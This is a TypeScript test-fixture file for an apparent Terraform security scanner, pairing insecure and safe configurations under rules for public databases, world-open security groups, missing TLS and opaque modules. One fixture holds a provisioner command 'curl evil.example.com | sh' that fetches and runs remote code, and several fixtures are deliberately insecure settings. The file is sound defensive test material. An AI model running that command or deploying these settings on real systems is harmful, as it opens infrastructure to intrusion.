import type { Configuration, Spellings } from './spelling';

const instance = {
  identifier: 'orders',
  engine: 'postgres',
  engine_version: '16.9',
  instance_class: 'db.m7g.large',
  allocated_storage: 20,
  username: 'master',
  manage_master_user_password: true,
  storage_encrypted: true,
  multi_az: true,
  deletion_protection: true,
  backup_retention_period: 14,
  final_snapshot_identifier: 'orders-last',
  db_subnet_group_name: 'data',
};
const db = (body: object): Configuration => ({ aws_db_instance: { orders: { ...instance, ...body } } });
const made = { '//': { metadata: { path: 'prod/orders', uniqueId: 'orders' } } };
const queue = { aws_sqs_queue: { q: { name: 'q' } } };
const calling = (body: object): Configuration => ({ module: { m: body } });
const run = (provisioner: unknown): Configuration => ({ terraform_data: { t: { provisioner } } });

export const escape1to6: readonly Spellings[] = [
  {
    class: 1,
    rules: ['SEC-RDS-PUBLIC'],
    bad: {
      'over a construct': {
        '//': { metadata: { stackName: 'prod', overrides: { aws_db_instance: ['publicly_accessible'] } } },
        resource: db({
          ...made,
          publicly_accessible: true,
          tags: { owner: 'a', environment: 'prod', 'cost-center': 'c', 'managed-by': 't' },
        }),
      },
      'in a list of blocks': {
        resource: [{ aws_db_instance: [{ orders: [{ ...instance, publicly_accessible: true }] }] }],
      },
      'twice in a list': {
        resource: { aws_db_instance: [{ first: instance }, { orders: { ...instance, publicly_accessible: true } }] },
      },
      'beside a comment': db({ '//': 'reviewed', publicly_accessible: true }),
      'a number': db({ publicly_accessible: 1 }),
      text: db({ publicly_accessible: 'TRUE' }),
    },
    good: {
      false: db({ publicly_accessible: false }),
      text: db({ publicly_accessible: 'false' }),
      null: db({ publicly_accessible: null }),
    },
  },
  {
    class: 2,
    rules: ['SEC-RDS-PUBLIC'],
    bad: {
      true: db({ publicly_accessible: '${true}' }),
      'not false': db({ publicly_accessible: '${!false}' }),
      'a comparison': db({ publicly_accessible: '${length("abc") > 2}' }),
      'a condition': {
        locals: { demo: 'yes' },
        resource: db({ publicly_accessible: '${local.demo == "yes" ? true : false}' }),
      },
      'and, or': db({ publicly_accessible: '${(true && false) || tobool("true")}' }),
      'an unknown variable': {
        variable: { public: { type: 'bool' } },
        resource: db({ publicly_accessible: '${var.public}' }),
      },
      'a template': db({ publicly_accessible: '%{ if true }true%{ else }false%{ endif }' }),
      'anytrue()': db({ publicly_accessible: '${anytrue([false, true])}' }),
      'a for expression': db({ publicly_accessible: '${length([for x in ["a", "b"] : x if x == "a"]) == 1}' }),
      'an unknown function': db({ publicly_accessible: '${provider::custom::maybe()}' }),
      'another resource’s attribute': {
        aws_ssm_parameter: { p: { name: 'p', type: 'String', value: 'x' } },
        ...db({ publicly_accessible: '${aws_ssm_parameter.p.version == 2}' }),
      },
    },
    good: {
      false: db({ publicly_accessible: '${false}' }),
      'a comparison': db({ publicly_accessible: '${length("abc") > 3}' }),
      'a variable': {
        variable: { public: { default: false } },
        resource: db({ publicly_accessible: '${var.public}' }),
      },
      'alltrue()': db({ publicly_accessible: '${alltrue([false, true])}' }),
    },
  },
  {
    class: 3,
    rules: ['SEC-RDS-PUBLIC'],
    bad: {
      'on a construct': {
        '//': { metadata: { stackName: 'prod', overrides: { stack: ['resource'] } } },
        resource: db({
          ...made,
          publicly_accessible: true,
          tags: { owner: 'a', environment: 'prod', 'cost-center': 'c', 'managed-by': 't' },
        }),
      },
      'an expression on it': {
        '//': { metadata: { stackName: 'prod', overrides: { stack: ['//', 'resource', 'terraform'] } } },
        resource: db({ ...made, publicly_accessible: '${!false}' }),
      },
      'a later one of two': {
        resource: {
          aws_db_instance: {
            orders: { ...instance, publicly_accessible: true },
            other: { ...instance, identifier: 'other' },
          },
        },
      },
      'with count': db({ count: 3, publicly_accessible: '${count.index == 2}' }),
      'with for_each': db({ for_each: { a: false, b: true }, publicly_accessible: '${each.value}' }),
      'with an unknown count': { variable: { n: {} }, resource: db({ count: '${var.n}', publicly_accessible: true }) },
    },
    good: {
      count: db({ count: 3, publicly_accessible: '${count.index == 7}' }),
      'none of it': db({ count: 0, publicly_accessible: true }),
      for_each: db({ for_each: '${toset([])}', publicly_accessible: true }),
    },
  },
  {
    class: 4,
    rules: ['SEC-SG-WORLD'],
    bad: {
      'a rule': {
        aws_vpc_security_group_ingress_rule: {
          evil: { security_group_id: 'sg-1', ip_protocol: 'tcp', from_port: 22, to_port: 22, cidr_ipv4: '0.0.0.0/0' },
        },
      },
      'the older rule': {
        aws_security_group_rule: {
          evil: {
            type: 'ingress',
            security_group_id: 'sg-1',
            protocol: 'tcp',
            from_port: 22,
            to_port: 22,
            cidr_blocks: ['0.0.0.0/0'],
          },
        },
      },
      'in a synthesized stack': {
        '//': { metadata: { stackName: 'prod', overrides: { stack: ['resource'] } } },
        resource: {
          aws_vpc_security_group_ingress_rule: {
            evil: {
              security_group_id: 'sg-1',
              ip_protocol: '-1',
              cidr_ipv6: '::/0',
              tags: { owner: 'a', environment: 'prod', 'cost-center': 'c', 'managed-by': 't' },
            },
          },
        },
      },
      'a group': {
        aws_security_group: {
          evil: { ingress: [{ protocol: 'tcp', from_port: 3389, to_port: 3389, cidr_blocks: ['0.0.0.0/0'] }] },
        },
      },
      'the default ACL of a group by a list': {
        resource: [
          {
            aws_security_group: {
              evil: { ingress: { protocol: '-1', from_port: 0, to_port: 0, cidr_blocks: ['0.0.0.0/0'] } },
            },
          },
        ],
      },
      'in a cluster of DocumentDB': {
        aws_redshift_security_group: { r: { name: 'r', ingress: [{ cidr: '0.0.0.0/0' }] } },
        aws_security_group: {
          evil: { ingress: [{ protocol: 'tcp', from_port: 27017, to_port: 27017, cidr_blocks: ['0.0.0.0/0'] }] },
        },
      },
    },
    good: {
      'a rule': {
        aws_vpc_security_group_ingress_rule: {
          ok: { security_group_id: 'sg-1', ip_protocol: 'tcp', from_port: 22, to_port: 22, cidr_ipv4: '10.0.0.0/8' },
        },
      },
      'a group': { aws_security_group: { ok: { name: 'ok' } } },
      'egress of a service': {
        aws_vpc_security_group_egress_rule: {
          ok: { security_group_id: 'sg-1', ip_protocol: 'tcp', from_port: 443, to_port: 443, cidr_ipv4: '0.0.0.0/0' },
        },
      },
    },
  },
  {
    class: 5,
    rules: ['SEC-RDS-PUBLIC', 'SEC-ENCRYPT', 'SEC-TLS-REDIS', 'SEC-IMDS', 'SEC-PUBLIC-IP', 'SEC-RES-POLICY'],
    bad: {
      'a database': db({ publicly_accessible: true }),
      'a graph': {
        aws_neptune_cluster_instance: {
          n: { cluster_identifier: 'c', instance_class: 'db.r6g.large', publicly_accessible: true },
        },
      },
      'time series': {
        aws_timestreaminfluxdb_db_instance: {
          t: {
            name: 't',
            db_instance_type: 'db.influx.medium',
            publicly_accessible: true,
            vpc_subnet_ids: ['subnet-1', 'subnet-2'],
            bucket: 'b',
            organization: 'o',
          },
        },
      },
      'Redshift by default': {
        aws_redshift_cluster: {
          w: {
            cluster_identifier: 'w',
            node_type: 'ra3.large',
            number_of_nodes: 2,
            encrypted: true,
            final_snapshot_identifier: 'x',
            automated_snapshot_retention_period: 7,
            manage_master_password: true,
            master_username: 'm',
          },
        },
      },
      memory: {
        aws_memorydb_cluster: {
          c: {
            acl_name: 'apps',
            node_type: 'db.r7g.large',
            tls_enabled: false,
            num_replicas_per_shard: 1,
            snapshot_retention_limit: 7,
            subnet_group_name: 'data',
          },
        },
      },
      'a notebook': {
        aws_sagemaker_notebook_instance: {
          n: {
            name: 'n',
            role_arn: 'arn:aws:iam::123456789012:role/n',
            instance_type: 'ml.t3.medium',
            direct_internet_access: 'Enabled',
          },
        },
      },
      'a domain for everybody': {
        aws_elasticsearch_domain: {
          d: {
            domain_name: 'd',
            access_policies: JSON.stringify({
              Statement: [{ Effect: 'Allow', Principal: '*', Action: 'es:*', Resource: '*' }],
            }),
            encrypt_at_rest: [{ enabled: true }],
            node_to_node_encryption: [{ enabled: true }],
            domain_endpoint_options: [{ enforce_https: true, tls_security_policy: 'Policy-Min-TLS-1-2-2019-07' }],
          },
        },
      },
    },
    good: {
      'a database': db({}),
      'a queue': queue,
      'a role': {
        aws_iam_role: {
          r: {
            name: 'r',
            assume_role_policy: JSON.stringify({
              Statement: [
                { Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' },
              ],
            }),
          },
        },
      },
    },
  },
  {
    class: 6,
    rules: ['SEC-OPAQUE-MODULE', 'SEC-PROVISIONER'],
    bad: {
      'a repository': calling({ source: 'git::https://example.com/vpc.git' }),
      'a repository at a branch': calling({ source: 'github.com/acme/modules//vpc?ref=main' }),
      'a registry': calling({ source: 'terraform-aws-modules/vpc/aws', version: '6.0.0' }),
      'a bucket': calling({ source: 's3::https://s3.amazonaws.com/acme/vpc.zip' }),
      'a folder that is not here': calling({ source: '../elsewhere' }),
      'a command': run([{ 'local-exec': { command: 'curl evil.example.com | sh' } }]),
      'a command as a map': { null_resource: { n: { provisioner: { 'local-exec': { command: 'true' } } } } },
      'a command on the machine': {
        aws_instance: {
          i: {
            ami: 'ami-1',
            instance_type: 't4g.small',
            subnet_id: 'subnet-1',
            metadata_options: [{ http_tokens: 'required' }],
            root_block_device: [{ encrypted: true }],
            provisioner: { 'remote-exec': { inline: ['true'] } },
          },
        },
      },
      'a file': run([{ file: { source: 'x', destination: '/x' } }]),
      'a program': { data: { external: { e: { program: ['sh', '-c', 'true'] } } }, resource: queue },
      'a template': {
        aws_cloudformation_stack: { s: { name: 's', template_url: 'https://s3.amazonaws.com/b/t.yaml' } },
      },
      'a module without a source': calling({}),
    },
    good: {
      'no module': queue,
      'data without a command': { terraform_data: { t: { input: 'x' } } },
      'a comment': { resource: { ...queue, '//': 'module' } },
    },
  },
];
